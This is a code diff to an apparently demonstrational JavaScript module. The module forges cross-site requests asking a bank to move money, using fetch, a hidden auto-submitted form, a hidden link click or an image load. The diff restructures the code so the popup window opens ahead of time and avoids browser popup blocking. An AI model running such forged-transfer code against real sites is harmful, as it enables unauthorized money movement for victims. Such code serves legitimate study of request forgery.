@@ -22,9 +22,9 @@ async function byFetch(target) {
 let answer = null;
 
 /** Opens a window that stays beside the page, so that one sees both; the one of before is closed. */
-function open(target) {
+function open() {
   answer?.close();
-  answer = window.open(target, `answer-${Date.now()}`, "popup,width=520,height=320");
+  answer = window.open("", `answer-${Date.now()}`, "popup,width=520,height=320");
   if (!answer) {
     throw new Error("the browser blocks windows here");
   }
@@ -45,8 +45,7 @@ async function lookInto(opened) {
   return "It let the script look into the window.";
 }
 
-async function byForm(target) {
-  const opened = open("");
+async function byForm(target, opened) {
   const form = element("form");
   Object.assign(form, { method: "POST", action: target, target: opened.name, hidden: true });
   for (const [name, value] of Object.entries(ORDER)) {
@@ -64,8 +63,13 @@ function withOrder(target) {
   return `${target}&${new URLSearchParams(ORDER)}`;
 }
 
-async function byLink(target) {
-  return lookInto(open(withOrder(target)));
+async function byLink(target, opened) {
+  const link = element("a");
+  Object.assign(link, { href: withOrder(target), target: opened.name, hidden: true });
+  document.body.append(link);
+  link.click();
+  link.remove();
+  return lookInto(opened);
 }
 
 async function byImage(target) {
@@ -81,8 +85,13 @@ async function byImage(target) {
 }
 
 const WAYS = { fetch: byFetch, form: byForm, link: byLink, image: byImage };
+const IN_A_WINDOW = ["form", "link"];
 
-/** Asks the bank to move money, in one of the ways; returns what the browser let the page see. */
-export async function attack(way, transfers, cookie) {
-  return WAYS[way](`${transfers}?cookie=${cookie}`);
+/**
+ * Readies one of the ways. What is returned asks the bank to move money, and returns what the browser let the page see.
+ * The window opens now: browsers block one that does not come of a press at once.
+ */
+export function prepared(way) {
+  const opened = IN_A_WINDOW.includes(way) ? open() : null;
+  return async (transfers, cookie) => WAYS[way](`${transfers}?cookie=${cookie}`, opened);
 }
